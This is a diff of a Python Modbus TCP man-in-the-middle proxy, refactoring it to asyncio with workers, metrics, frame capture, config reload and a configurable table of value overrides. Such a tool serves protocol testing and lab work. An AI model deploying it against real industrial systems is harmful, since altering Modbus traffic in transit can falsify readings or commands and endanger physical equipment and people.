+        pass  # already disconnected
+
+
+async def handle_client(client_sock, client_addr):
+    """Handle single client connection"""
+    try:
+        server_sock, source_port = await connect_upstream(source_ports, UPSTREAM_HOST, MODBUS_TCP_PORT,
+                                                          CONNECT_TIMEOUT, transport_options)
+    except OSError as e:
+        metrics.error('upstream_connect')
+        log.warning('!', "Upstream connect failed for %s: %s", client_addr, e)
+        client_sock.close()
+        return
+
+    # Initialize storage for this client
+    client_original_values[client_addr] = {}
 
+    session = ProxySession(client_addr, client_sock, server_sock)
+    active_sessions[session.conn_id] = session
+    try:
+        await session.run()
+        if session.close_reason:
+            metrics.error(session.close_reason, stats=session.stats)
+            log.warning('!', "Closing %s: %s", client_addr, session.close_reason.replace('_', ' '))
+    except ValueError as e:
+        metrics.error('bad_frame', stats=session.stats)
+        log.warning('!', "Closing %s: %s", client_addr, e)
+    except OSError as e:
+        metrics.error('socket', stats=session.stats)
+        log.warning('!', "Closing %s: %s", client_addr, e)
     finally:
+        del active_sessions[session.conn_id]
+        metrics.close_connection(session.conn_id)
         # Clean up client storage
         if client_addr in client_original_values:
             del client_original_values[client_addr]
         client_sock.close()
         server_sock.close()
+        source_ports.release(source_port)
 
 
-def main():
-    """Start MITM proxy"""
-    print(f"[{get_timestamp()}] Modbus MITM Proxy started")
-    print(f"[{get_timestamp()}] Listening on 127.0.0.1:{MITM_PORT}")
-    print(f"[{get_timestamp()}] Forwarding to 127.0.0.1:{MODBUS_TCP_PORT}")
-    print(f"[{get_timestamp()}] Overrides: {overrides}")
-    print(f"[{get_timestamp()}] Press Ctrl+C to stop\n")
+async def reap_sessions():
+    """Drop requests unanswered past READ_TIMEOUT, close sessions whose upstream went silent or idle ones"""
+    while True:
+        await asyncio.sleep(REAP_INTERVAL)
+        now = time.perf_counter_ns()
+        for session in list(active_sessions.values()):
+            reason = session.expired(now)
+            if reason:
+                session.abort(reason)
+
+
+def metrics_routes():
+    """Read-only HTTP routes served on --metrics-port"""
+    routes = {
+        '/metrics': lambda query: ("text/plain; version=0.0.4", metrics.render()),
+    }
+    if image:
+        routes['/image'] = lambda query: ("application/json", image.render_query(query))
+        routes['/image/snapshot'] = lambda query: ("application/json", image.render_snapshot())
+    return routes
+
+
+async def accept_clients(server, sessions):
+    loop = asyncio.get_running_loop()
+    while True:
+        client_sock, addr = await loop.sock_accept(server)
+        log.info('+', "Connection from %s", addr)
+        try:
+            apply_options(client_sock, transport_options)
+        except OSError as e:
+            log.warning('!', "Cannot set socket options for %s: %s", addr, e)
+        task = asyncio.ensure_future(handle_client(client_sock, str(addr)))
+        sessions.add(task)
+        task.add_done_callback(sessions.discard)
+
 
+def reload_settings(args, index, workers):
+    """SIGHUP: re-read config and apply it to new sessions and the shared override table"""
+    try:
+        settings = load_settings(args)
+    except ValueError as e:
+        log.error('!', "Reload failed, keeping current config: %s", e)
+        return
+    listening = (LISTEN_HOST, MITM_PORT)
+    apply_settings(settings, index, workers)
+    spliced = sum(session.spliced for session in active_sessions.values())
+    if spliced and overrides:
+        log.warning('!', "%d spliced sessions keep forwarding without overrides until they reconnect", spliced)
+    if workers == 1 and (LISTEN_HOST, MITM_PORT) != listening:
+        log.warning('!', "New listen address %s:%d takes effect on restart", LISTEN_HOST, MITM_PORT)
+    log.info(None, "Config reloaded, forwarding to %s:%d, overrides: %s", UPSTREAM_HOST, MODBUS_TCP_PORT, overrides)
+
+
+async def serve(args, index=0, workers=1, supervised=False):
+    """Accept clients on one event loop until SIGTERM, then let open sessions finish"""
+    loop = asyncio.get_running_loop()
+    # Only workers of one supervisor share ports, a second standalone proxy must fail to bind
+    reuse_port = supervised and hasattr(socket, 'SO_REUSEPORT')
     server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
     server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
-    server.bind(('127.0.0.1', MITM_PORT))
-    server.listen(5)
+    if reuse_port:
+        # Workers each bind their own listener, the kernel spreads connections between them
+        server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
+    server.bind((LISTEN_HOST, MITM_PORT))
+    server.listen(LISTEN_BACKLOG)
+    server.setblocking(False)
+
+    metrics_server = stats_writer = image_writer = None
+    if args.metrics_port:
+        port = args.metrics_port + index
+        # On a rolling restart the retiring worker N still holds this port while it drains
+        metrics_server = await serve_http(args.metrics_host, port, metrics_routes(), reuse_port=reuse_port)
+        log.info(None, "Metrics on http://%s:%d/metrics", args.metrics_host, port)
+        if image:
+            log.info(None, "Process image on http://%s:%d/image", args.metrics_host, port)
+    if args.stats_file:
+        path = args.stats_file if workers == 1 else f"{args.stats_file}.{index}"
+        stats_writer = asyncio.ensure_future(write_stats_periodically(path, args.stats_interval, metrics.render))
+    if image and args.image_file:
+        image_path = args.image_file if workers == 1 else f"{args.image_file}.{index}"
+        image_writer = asyncio.ensure_future(
+            write_stats_periodically(image_path, args.image_interval, image.render_snapshot))
 
+    stopping = asyncio.Event()
+    loop.add_signal_handler(signal.SIGTERM, stopping.set)
+    loop.add_signal_handler(signal.SIGHUP, reload_settings, args, index, workers)
+    loop.add_signal_handler(signal.SIGUSR1, start_window, 'cpu', args.profile_seconds, args.profile_dir, log)
+    loop.add_signal_handler(signal.SIGUSR2, start_window, 'alloc', args.profile_seconds, args.profile_dir, log)
+
+    sessions = set()
+    reaper = asyncio.ensure_future(reap_sessions())
+    accepter = asyncio.ensure_future(accept_clients(server, sessions))
+    stopper = asyncio.ensure_future(stopping.wait())
     try:
-        while True:
-            client_sock, addr = server.accept()
-            print(f"[{get_timestamp()}] [+] Connection from {addr}")
-            threading.Thread(target=handle_client, args=(client_sock, str(addr))).start()
-    except KeyboardInterrupt:
-        print(f"\n[{get_timestamp()}] Shutting down")
+        done, _ = await asyncio.wait([accepter, stopper], return_when=asyncio.FIRST_COMPLETED)
+        if accepter in done:
+            accepter.result()
     finally:
+        accepter.cancel()
+        stopper.cancel()
         server.close()
+        if metrics_server:
+            metrics_server.close()  # a successor may already be serving this port
+        if sessions:
+            log.info(None, "Stopped accepting, waiting up to %.0fs for %d sessions", DRAIN_TIMEOUT, len(sessions))
+            _, unfinished = await asyncio.wait(list(sessions), timeout=DRAIN_TIMEOUT)
+            for task in unfinished:
+                task.cancel()
+            await asyncio.gather(*unfinished, return_exceptions=True)
+        reaper.cancel()
+        if stats_writer:
+            stats_writer.cancel()
+        if image_writer:
+            image_writer.cancel()
+            write_text_file(image_path, image.render_snapshot())
+
+
+def parse_args(argv):
+    parser = argparse.ArgumentParser(description="Modbus TCP MITM proxy")
+    parser.add_argument('--config', metavar='FILE', help="INI file with [proxy] settings and [overrides]")
+    parser.add_argument('--listen-host')
+    parser.add_argument('--listen-port', type=int)
+    parser.add_argument('--upstream-host')
+    parser.add_argument('--upstream-port', type=int)
+    parser.add_argument('--workers', type=int, help="worker processes sharing the listening port")
+    parser.add_argument('--source-ports', type=parse_port_range, metavar='FIRST-LAST',
+                        help="upstream source port range, split between workers")
+    parser.add_argument('--connect-timeout', type=float, help="seconds to connect upstream")
+    parser.add_argument('--read-timeout', type=float, help="seconds to wait for a response (0 = forever)")
+    parser.add_argument('--idle-timeout', type=float, help="seconds without traffic before closing (0 = never)")
+    parser.add_argument('--tcp-nodelay', action=argparse.BooleanOptionalAction,
+                        help="disable Nagle's algorithm on client and upstream sockets (default on)")
+    parser.add_argument('--tcp-quickack', action=argparse.BooleanOptionalAction,
+                        help="acknowledge received data immediately, Linux only (default off)")
+    parser.add_argument('--send-buffer', type=int, metavar='BYTES', help="SO_SNDBUF size (0 = kernel default)")
+    parser.add_argument('--recv-buffer', type=int, metavar='BYTES', help="SO_RCVBUF size (0 = kernel default)")
+    parser.add_argument('--log-level', choices=sorted(LEVELS, key=LEVELS.get), default='info',
+                        help="lowest level written; per-frame traffic is debug, which decodes every frame "
+                             "and turns off pass-through forwarding and --splice")
+    parser.add_argument('--log-json', action='store_true', help="write JSON lines instead of text")
+    parser.add_argument('--log-file', help="append log to file instead of stdout")
+    parser.add_argument('--log-sample', action='append', default=[], metavar='FC=N',
+                        help="log only 1 of every N frames with function code FC, e.g. 0x03=100")
+    parser.add_argument('--splice', action='store_true',
+                        help="forward with os.splice while no overrides, capture or debug logging are active; "
+                             "sessions spliced before a reload adds overrides stay uninspected until they reconnect")
+    parser.add_argument('--capture', metavar='FILE',
+                        help="record every client and upstream frame to FILE (FILE.N.PID per worker process)")
+    parser.add_argument('--image', action='store_true',
+                        help="keep last observed value per unit and address, served as /image on --metrics-port")
+    parser.add_argument('--image-file', metavar='FILE',
+                        help="periodically export the process image as JSON to FILE (FILE.N per worker), implies --image")
+    parser.add_argument('--image-interval', type=float, default=1.0, help="seconds between --image-file exports")
+    parser.add_argument('--stage-timing', action='store_true',
+                        help="time recv, decode, rewrite and send stages per function code (adds overhead)")
+    parser.add_argument('--profile-dir', default='.',
+                        help="where SIGUSR1 (cProfile) and SIGUSR2 (tracemalloc) windows write their dumps")
+    parser.add_argument('--profile-seconds', type=float, default=PROFILE_SECONDS,
+                        help="length of a profiling window")
+    parser.add_argument('--metrics-host', default='127.0.0.1')
+    parser.add_argument('--metrics-port', type=int, default=0,
+                        help="serve Prometheus text metrics on this port, +N for worker N (0 = off)")
+    parser.add_argument('--stats-file', help="periodically rewrite FILE with the same metrics text (FILE.N per worker)")
+    parser.add_argument('--stats-interval', type=float, default=5.0, help="seconds between --stats-file writes")
+    args = parser.parse_args(argv)
+
+    args.sample = {}
+    for item in args.log_sample:
+        try:
+            function_code, every = item.split('=')
+            args.sample[int(function_code, 0)] = max(1, int(every))
+        except ValueError:
+            parser.error(f"invalid --log-sample {item!r}, expected FC=N")
+    if args.workers is not None and args.workers < 1:
+        parser.error("--workers must be at least 1")
+    return args
+
+
+def load_settings(args):
+    """Defaults < config file < command line"""
+    settings = dict(DEFAULT_SETTINGS)
+    if args.config:
+        settings.update(load_config(args.config))
+    for key in ('listen_host', 'listen_port', 'upstream_host', 'upstream_port', 'workers', 'source_ports',
+                'connect_timeout', 'read_timeout', 'idle_timeout', 'tcp_nodelay', 'tcp_quickack', 'send_buffer',
+                'recv_buffer'):
+        value = getattr(args, key)
+        if value is not None:
+            settings[key] = value
+    return settings
+
+
+def apply_settings(settings, index=0, workers=1):
+    """Install settings for this process, worker index gets every workers-th source port"""
+    global LISTEN_HOST, MITM_PORT, UPSTREAM_HOST, MODBUS_TCP_PORT, SOURCE_PORTS
+    global CONNECT_TIMEOUT, READ_TIMEOUT, IDLE_TIMEOUT
+    global TCP_NODELAY, TCP_QUICKACK, SOCKET_SEND_BUFFER, SOCKET_RECV_BUFFER, transport_options
+    LISTEN_HOST, MITM_PORT = settings['listen_host'], settings['listen_port']
+    UPSTREAM_HOST, MODBUS_TCP_PORT = settings['upstream_host'], settings['upstream_port']
+    SOURCE_PORTS = settings['source_ports'][index::workers]
+    source_ports.resize(SOURCE_PORTS)
+    CONNECT_TIMEOUT = settings['connect_timeout']
+    READ_TIMEOUT = settings['read_timeout']
+    IDLE_TIMEOUT = settings['idle_timeout']
+    TCP_NODELAY, TCP_QUICKACK = settings['tcp_nodelay'], settings['tcp_quickack']
+    SOCKET_SEND_BUFFER, SOCKET_RECV_BUFFER = settings['send_buffer'], settings['recv_buffer']
+    transport_options = socket_options(TCP_NODELAY, SOCKET_SEND_BUFFER, SOCKET_RECV_BUFFER)
+    # Update in place, sessions hold references to this dict
+    overrides.clear()
+    overrides.update(settings['overrides'])
+
+
+def run_worker(args, index, workers, settings, supervised=False):
+    """Serve clients in this process as worker index of workers"""
+    global capture, image
+    apply_settings(settings, index, workers)
+    if args.image or args.image_file:
+        image = ProcessImage()
+    if args.capture:
+        if not supervised:
+            capture = CaptureWriter(args.capture)
+        else:
+            # Per process: after a rolling restart the retiring worker N may still be appending to its file
+            capture = CaptureWriter(f"{args.capture}.{index}.{os.getpid()}", exclusive=True)
+        log.info(None, "Recording frames to %s", capture.path)
+
+    try:
+        asyncio.run(serve(args, index, workers, supervised))
+    finally:
+        if capture:
+            capture.close()
+            log.info(None, "Captured %d frames (%d dropped)", capture.recorded, capture.dropped)
+
+
+def main(argv=None):
+    """Start MITM proxy"""
+    global USE_SPLICE, STAGE_TIMING
+    args = parse_args(argv)
+    try:
+        settings = load_settings(args)
+    except ValueError as e:
+        sys.exit(f"modbus_mitm: {e}")
+    USE_SPLICE = args.splice
+    STAGE_TIMING = args.stage_timing
+    log.configure(level=LEVELS[args.log_level], json_lines=args.log_json, sample=args.sample,
+                  stream=open(args.log_file, 'a') if args.log_file else sys.stdout)
+    apply_settings(settings)
+
+    log.info(None, "Modbus MITM Proxy started")
+    log.info(None, "Listening on %s:%d", LISTEN_HOST, MITM_PORT)
+    log.info(None, "Forwarding to %s:%d", UPSTREAM_HOST, MODBUS_TCP_PORT)
+    log.info(None, "Overrides: %s", overrides)
+    log.info(None, "Press Ctrl+C to stop")
+
+    try:
+        if settings['workers'] > 1:
+            supervisor = Supervisor(
+                lambda index, workers, worker_settings: run_worker(args, index, workers, worker_settings, True),
+                lambda: load_settings(args), settings, RESTART_KEYS, log)
+            supervisor.run()
+        else:
+            run_worker(args, 0, 1, settings)
+    except KeyboardInterrupt:
+        pass
+    finally:
+        log.info(None, "Shutting down")
+        log.close()
 
 
 if __name__ == "__main__":